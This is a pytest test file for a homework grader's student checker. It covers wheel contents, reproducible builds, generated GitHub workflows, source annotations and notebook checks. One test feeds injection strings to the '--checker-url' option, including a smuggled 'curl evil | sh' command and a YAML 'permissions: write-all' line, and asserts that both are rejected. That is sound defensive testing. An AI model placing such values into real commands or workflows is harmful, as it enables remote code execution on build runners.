"""The student checker: its wheel holds no answer key, a repository made by `grader init-ci`
passes its workflow's steps run by hand, annotations land on the defining line, and a
notebook checks itself with `check("p3b")`.

The checker is installed into a bare virtual environment whose only other packages are this
environment's (a .pth file names its site-packages; its .pth files, the editable grader's
among them, are not read): the checker's `grader` is the wheel's, and nothing is downloaded.
"""

from __future__ import annotations

import ast
import hashlib
import json
import os
import shutil
import subprocess
import sys
import sysconfig
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from grader.commands import checker_build
from grader.outputs.bundle import write_bundle
from grader.commands.checker_build import build_checker, checker_version
from grader.commands.cli import main
from grader.errors import GraderError, UsageError
from grader.rubric import default_rubric_path, load_rubric
from grader.stages.source_locations import locate
from grader.stages.submissions import load
from grader_checker import check, find_notebook

ROOT = Path(__file__).resolve().parent.parent
SUBMISSIONS = ROOT / "submissions"
CORRECT = SUBMISSIONS / "alias_names_student.py"  # right everywhere, no torch
WRONG = SUBMISSIONS / "mistake_3b_sign_flipped.py"  # p3b's sign flipped
NOTEBOOK = SUBMISSIONS / "mistake_3b_off_diagonal_sign.ipynb"


@pytest.fixture(scope="module")
def bundle_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_bundle(load_rubric(default_rubric_path()), tmp_path_factory.mktemp("bundle") / "public.json")


@pytest.fixture(scope="module")
def wheel(bundle_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_checker(bundle_file, tmp_path_factory.mktemp("dist"))


@pytest.fixture(scope="module")
def bare_environment(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A virtual environment without the grader: this one's packages through a .pth file."""
    folder = tmp_path_factory.mktemp("venv") / "checker"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(folder)], check=True)
    site = Path(subprocess.run([str(folder / "bin" / "python"), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                               check=True, capture_output=True, text=True).stdout.strip())
    (site / "this-environment.pth").write_text(sysconfig.get_paths()["purelib"] + "\n")
    return folder


def in_environment(environment: Path) -> dict[str, str]:
    """The shell environment of a workflow step: the bare environment first on PATH, pip offline."""
    return {**os.environ, "PATH": f"{environment / 'bin'}:{os.environ['PATH']}", "PIP_NO_INDEX": "1",
            "PIP_FIND_LINKS": "", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "GITHUB_STEP_SUMMARY": "",
            "PYTHONPATH": "", "VIRTUAL_ENV": str(environment)}


def installed_files(environment: Path, wheel: Path) -> dict[str, Path]:
    """Install the wheel into the environment: its files by path in site-packages."""
    subprocess.run([str(environment / "bin" / "python"), "-m", "pip", "install", "--no-deps", "--force-reinstall",
                    "--quiet", str(wheel)], check=True, env=in_environment(environment))
    site = next((environment / "lib").glob("python3*/site-packages"))
    return {path.relative_to(site).as_posix(): path for folder in ("grader", "grader_checker")
            for path in (site / folder).rglob("*") if path.is_file() and "__pycache__" not in path.parts}


#: Names the answer key shares with the checker by coincidence, not by content.
SHARED_NAMES = {"get", "resolve_device"}  # a table's lookup; "cpu" or "cuda"


def reference_functions() -> set[str]:
    """Every function and method the answer key defines: its formulas, catalog, case draws."""
    names: set[str] = set()
    for path in (ROOT / "reference").rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.FunctionDef) and not node.name.startswith("__"):
                names.add(node.name)
    return names - SHARED_NAMES


def reference_formula_lines() -> set[str]:
    """The answer key's `return ...` lines: where its formulas are written."""
    return {line.strip() for path in (ROOT / "reference").rglob("*.py")
            for line in path.read_text(encoding="utf-8").splitlines()
            if line.strip().startswith("return ") and len(line.strip()) > 25}


def test_the_installed_checker_holds_no_answer_key_nor_case_generator(bare_environment: Path, wheel: Path) -> None:
    files = installed_files(bare_environment, wheel)
    assert "grader_checker/public.json" in files and "grader/sandbox/zygote.py" in files
    with zipfile.ZipFile(wheel) as archive:
        assert not [name for name in archive.namelist() if name.startswith("reference/")]
    assert not {"grader/stages/cases.py", "grader/commands/reference_tools.py", "grader/commands/answer_key.py", "grader/commands/cli.py"} & set(files)
    defined_in_key = reference_functions()
    formulas = reference_formula_lines()
    assert "stable_softmax" in defined_in_key and formulas  # the two lists are not empty by mistake
    for path in (path for path in files.values() if path.suffix == ".py"):
        text = path.read_text(encoding="utf-8")
        defined = {node.name for node in ast.walk(ast.parse(text)) if isinstance(node, ast.FunctionDef)}
        assert not defined & defined_in_key, f"{path.name} defines the answer key's {defined & defined_in_key}"
        assert not {line.strip() for line in text.splitlines()} & formulas, f"{path.name} holds a formula"
    # Every module loads with the answer key unimportable: none needs it, even lazily at load.
    modules = [name.removesuffix(".py").removesuffix("/__init__").replace("/", ".")
               for name in files if name.endswith(".py") and not name.endswith("__main__.py")]
    probe = ("import importlib, sys\nsys.modules['reference'] = None\n"
             f"for name in {modules!r}:\n    importlib.import_module(name)\n"
             "import grader\nassert 'site-packages' in grader.__file__, grader.__file__\n")
    subprocess.run([str(bare_environment / "bin" / "python"), "-c", probe], check=True, cwd=bare_environment,
                   env=in_environment(bare_environment))


def test_the_build_refuses_a_checker_that_would_import_the_answer_key(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    for name, text in {"grader_checker/__init__.py": "from grader import leaky\n", "grader/__init__.py": "",
                       "grader/leaky.py": "import typing\nif typing.TYPE_CHECKING:\n    import grader.stages.cases\n"
                                          "def later():\n    import reference\nfrom reference import PROBLEMS\n"}.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    monkeypatch.setattr(checker_build, "SOURCE_ROOT", tmp_path)
    monkeypatch.setattr(checker_build, "ROOTS", ("grader_checker",))
    with pytest.raises(GraderError, match=r"would ship reference: imported at load time by grader.leaky <- grader_checker"):
        checker_build.shipped_modules()
    # Under TYPE_CHECKING or inside a function it is not loaded: those alone are shipped.
    (tmp_path / "grader/leaky.py").write_text("import typing\nif typing.TYPE_CHECKING:\n    import grader.stages.cases\n"
                                              "def later():\n    import reference\n")
    assert set(checker_build.shipped_modules()) == {"grader_checker", "grader", "grader.leaky"}


def test_the_wheel_is_reproducible_and_its_version_is_the_bundles_digest(bundle_file: Path, wheel: Path,
                                                                         tmp_path: Path) -> None:
    digest = hashlib.sha256(bundle_file.read_bytes()).hexdigest()
    assert wheel.name == f"grader_checker-{checker_version(bundle_file.read_bytes())}-py3-none-any.whl"
    assert f"+bundle.{digest[:16]}" in wheel.name
    again = build_checker(bundle_file, tmp_path / "again")
    assert again.read_bytes() == wheel.read_bytes()  # same bundle, same grader: the same sha256 to pin
    with zipfile.ZipFile(wheel) as archive:
        assert archive.read("grader_checker/public.json") == bundle_file.read_bytes()
        metadata = archive.read(f"grader_checker-{checker_version(bundle_file.read_bytes())}.dist-info/METADATA").decode()
    assert "Requires-Dist: numpy" in metadata and "torch" not in metadata  # torch: a CPU build, only when needed
    other = tmp_path / "other.json"
    other.write_text(bundle_file.read_text().replace('"title": "', '"title": "Spring: ', 1))
    assert build_checker(other, tmp_path / "other").name != wheel.name


def student_repository(template: Path, folder: Path, homework: Path) -> Path:
    shutil.copytree(template, folder)
    shutil.copy(homework, folder / homework.name)
    return folder


def run_steps(workflow: Path, repository: Path, environment: Path) -> list[subprocess.CompletedProcess[str]]:
    """Each `run:` step of the workflow as GitHub runs it (bash -e), stopping at the first failure."""
    steps = yaml.safe_load(workflow.read_text())["jobs"]["check"]["steps"]
    done = []
    for step in steps:
        if "run" in step:
            done.append(subprocess.run(["bash", "-e", "-c", step["run"]], cwd=repository, capture_output=True,
                                       text=True, env=in_environment(environment), timeout=600))
            if done[-1].returncode != 0:
                break
    return done


@pytest.mark.slow
def test_a_repository_made_by_init_ci_passes_its_workflow_when_right_and_fails_when_wrong(
        bundle_file: Path, bare_environment: Path, tmp_path: Path) -> None:
    template = tmp_path / "template"
    template.mkdir()
    shutil.copy(bundle_file, template / "public.json")
    result = CliRunner().invoke(main, ["init-ci", str(template)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    assert "commit them with public.json" in result.output and "torch: torch==" in result.output
    workflow = template / ".github" / "workflows" / "grader.yml"
    steps = yaml.safe_load(workflow.read_text())["jobs"]["check"]["steps"]
    setup = next(step for step in steps if step.get("uses", "").startswith("actions/setup-python"))
    assert setup["with"]["cache"] == "pip" and setup["with"]["cache-dependency-path"] == ".github/workflows/grader.yml"
    install = next(step["run"] for step in steps if "pip install" in step.get("run", ""))
    assert "pip install grader\n" not in install and ".github/grader/grader_checker-" in install
    assert list((template / ".github" / "grader").glob("grader_checker-*.whl"))

    right = run_steps(workflow, student_repository(template, tmp_path / "right", CORRECT), bare_environment)
    assert [step.returncode for step in right] == [0, 0], right[-1].stderr
    assert "::notice file=alias_names_student.py,line=" in right[-1].stdout

    wrong = run_steps(workflow, student_repository(template, tmp_path / "wrong", WRONG), bare_environment)
    assert [step.returncode for step in wrong] == [0, 1], wrong[-1].stderr
    definition = 1 + WRONG.read_text().splitlines().index(next(
        line for line in WRONG.read_text().splitlines() if line.startswith("def softmax_jacobian")))
    assert (f"::error file=mistake_3b_sign_flipped.py,line={definition},title=p3b Softmax Jacobian%3A partial::"
            in wrong[-1].stdout)
    # The replay command it prints works in the student's clone, with the checker alone.
    replay = next(line.split("replay: ", 1)[1] for line in wrong[-1].stdout.splitlines()
                  if "replay: grader replay . p3b" in line)
    assert replay.endswith("--bundle public.json")
    replayed = subprocess.run(["bash", "-c", replay], cwd=tmp_path / "wrong", capture_output=True, text=True,
                              env=in_environment(bare_environment))
    assert replayed.returncode == 0 and "verdict:   failed" in replayed.stdout, replayed.stderr
    assert "consistent with: sign-flipped" in replayed.stdout
    # Without public.json in the repository, the bundle built into the checker is used.
    (tmp_path / "right" / "public.json").unlink()
    alone = subprocess.run(["grader", "check", "."], cwd=tmp_path / "right", capture_output=True, text=True,
                           env=in_environment(bare_environment))
    assert alone.returncode == 0 and "✓ p3b Softmax Jacobian" in alone.stdout, alone.stderr


@pytest.mark.slow
def test_a_bundle_with_build_cnn_installs_torch_and_checks_the_network(bare_environment: Path, tmp_path: Path) -> None:
    rubric = tmp_path / "with-torch.toml"
    text = default_rubric_path().read_text()
    rubric.write_text(text.replace("[problems.p2-torch]\nenabled = false", "[problems.p2-torch]\nenabled = true"))
    template = tmp_path / "template"
    template.mkdir()
    write_bundle(load_rubric(rubric), template / "public.json")
    result = CliRunner().invoke(main, ["init-ci", str(template)], catch_exceptions=False)
    assert result.exit_code == 0 and "because a problem builds a torch model" in result.output
    workflow = template / ".github" / "workflows" / "grader.yml"
    install = next(step["run"] for step in yaml.safe_load(workflow.read_text())["jobs"]["check"]["steps"]
                   if "pip install" in step.get("run", ""))
    assert install.startswith("python -m pip install torch==")  # unconditionally: build_cnn needs it
    # torch is this environment's (pip finds it installed and downloads nothing).
    steps = run_steps(workflow, student_repository(template, tmp_path / "right", SUBMISSIONS / "ada_lovelace.py"),
                      bare_environment)
    assert [step.returncode for step in steps] == [0, 0], steps[-1].stdout + steps[-1].stderr
    assert "::notice file=ada_lovelace.py,line=" in steps[-1].stdout and "| ✓ p2-torch" in steps[-1].stdout


def test_init_ci_pins_a_checker_served_from_a_url_by_its_hash(bundle_file: Path, wheel: Path,
                                                               bare_environment: Path, tmp_path: Path) -> None:
    template = tmp_path / "template"
    template.mkdir()
    shutil.copy(bundle_file, template / "public.json")
    url = f"https://example.org/course/releases/{wheel.name}"
    result = CliRunner().invoke(main, ["init-ci", str(template), "--checker", str(wheel), "--checker-url", url])
    assert result.exit_code == 0, result.output
    assert f"upload {wheel}" in result.output
    workflow = (template / ".github" / "workflows" / "grader.yml").read_text()
    line = next(line.strip() for line in workflow.splitlines() if url in line)
    assert line == f"python -m pip install '{url}#sha256={hashlib.sha256(wheel.read_bytes()).hexdigest()}'"
    assert not (template / ".github" / "grader").exists()  # nothing to commit but the workflow
    # pip holds the download to that hash: a wheel changed on the server is refused.
    tampered = tmp_path / "served" / wheel.name
    tampered.parent.mkdir()
    tampered.write_bytes(wheel.read_bytes() + b"\0")
    served = line.replace("https://example.org/course/releases/", f"file://{tampered.parent}/")
    refused = subprocess.run(["bash", "-e", "-c", served], capture_output=True, text=True,
                             env=in_environment(bare_environment))
    assert refused.returncode != 0 and "HASHES" in refused.stderr


def test_init_ci_refuses_a_checker_of_another_bundle_and_a_url_that_is_no_url(bundle_file: Path, wheel: Path,
                                                                                 tmp_path: Path) -> None:
    template = tmp_path / "template"
    template.mkdir()
    (template / "public.json").write_text(bundle_file.read_text().replace('"title": "', '"title": "Old: ', 1))
    result = CliRunner().invoke(main, ["init-ci", str(template), "--checker", str(wheel)])
    assert result.exit_code == 2 and "built for another bundle" in result.output
    shutil.copy(bundle_file, template / "public.json")
    for url in ("http://example.org/x.whl", f"https://example.org/{wheel.name}\n    permissions: write-all",
                f"https://example.org/{wheel.name}'; curl evil | sh; '"):
        result = CliRunner().invoke(main, ["init-ci", str(template), "--checker", str(wheel), "--checker-url", url])
        assert result.exit_code == 2 and "not an https URL of one word" in result.output
    result = CliRunner().invoke(main, ["init-ci", str(template), "--checker-url", f"https://example.org/{wheel.name}"])
    assert result.exit_code == 2 and "--checker-url needs --checker" in result.output
    assert not (template / ".github").exists()


def test_the_workflow_installs_torch_always_for_build_cnn_else_only_for_code_that_imports_it(tmp_path: Path) -> None:
    from grader.commands.workflow import torch_command

    always = torch_command(True)
    assert always.startswith("python -m pip install torch==") and "download.pytorch.org/whl/cpu" in always
    maybe = torch_command(False)
    for code, imports in [("import torch\n", True), ("from torch import nn\n", True), ('"import torch\\n",\n', True),
                          ("import numpy as np\n", False), ("torchvision = None\n", False)]:
        (tmp_path / "homework.py").write_text(code)
        shown = subprocess.run(["bash", "-e", "-c", maybe.replace("python -m pip install", "echo would install")],
                               cwd=tmp_path, capture_output=True, text=True, check=True)
        assert ("would install torch" in shown.stdout) is imports, code


def test_annotations_locate_each_function_in_a_module_and_in_a_notebooks_json(tmp_path: Path) -> None:
    names = {"p3b": ("softmax_jacobian",), "p1": ("mlp_params",), "p9": ("no_such_function",)}
    module = locate(load(WRONG), names)
    lines = WRONG.read_text().splitlines()
    assert lines[module["p3b"].line - 1].startswith("def softmax_jacobian(")  # type: ignore[operator]
    assert module["p9"].line is None and module["p9"].file == WRONG
    notebook = locate(load(NOTEBOOK), names)
    raw = NOTEBOOK.read_text().splitlines()
    assert raw[notebook["p3b"].line - 1].strip().startswith('"def softmax_jacobian(z)')  # type: ignore[operator]
    assert notebook["p3b"].cell is not None and notebook["p3b"].cell.startswith("cell ")
    # A notebook written on one line: the cell is still named, the line is the file's only one.
    flat = tmp_path / NOTEBOOK.name
    flat.write_text(json.dumps(json.loads(NOTEBOOK.read_text())))
    placed = locate(load(flat), names)["p3b"]
    assert placed.line is None and placed.cell == notebook["p3b"].cell


def test_check_in_a_notebook_prints_the_commands_report(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                        bundle_file: Path) -> None:
    shutil.copy(NOTEBOOK, tmp_path / NOTEBOOK.name)
    shutil.copy(bundle_file, tmp_path / "public.json")
    (tmp_path / "notebooks").mkdir()  # a notebook in a folder below the repository's public.json
    shutil.copy(NOTEBOOK, tmp_path / "notebooks" / "homework.ipynb")
    command = CliRunner().invoke(main, ["check", str(tmp_path / NOTEBOOK.name), "--only", "p3b"])
    assert command.exit_code == 1 and "✗ p3b Softmax Jacobian" in command.output and "p3c" not in command.output
    check("p3b", notebook=tmp_path / NOTEBOOK.name)
    printed = capsys.readouterr().out
    assert printed.startswith(f"checking {NOTEBOOK.name} as saved at ")
    assert printed.split("\n", 1)[1] == command.output
    check("p3b", notebook=tmp_path / "notebooks" / "homework.ipynb")
    assert "✗ p3b Softmax Jacobian" in capsys.readouterr().out
    check("p3x", notebook=tmp_path / NOTEBOOK.name)
    assert 'error: p3x: ' in capsys.readouterr().out  # a message with a did-you-mean, never a traceback


def test_check_in_a_notebook_finds_its_file_or_says_how_to_name_it(tmp_path: Path) -> None:
    (tmp_path / "a.ipynb").write_text("{}")
    assert find_notebook({}, tmp_path) == tmp_path / "a.ipynb"  # the only notebook in the kernel's folder
    (tmp_path / "b.ipynb").write_text("{}")
    assert find_notebook({"__vsc_ipynb_file__": str(tmp_path / "b.ipynb")}, tmp_path) == tmp_path / "b.ipynb"
    # Jupyter's path from the server's root; the kernel runs in the notebook's folder.
    assert find_notebook({"__session__": "course/hw1/a.ipynb"}, tmp_path) == tmp_path / "a.ipynb"
    with pytest.raises(UsageError, match=r"cannot tell which notebook to check: 2 notebooks") as raised:
        find_notebook({}, tmp_path)
    assert 'notebook="homework.ipynb"' in str(raised.value)
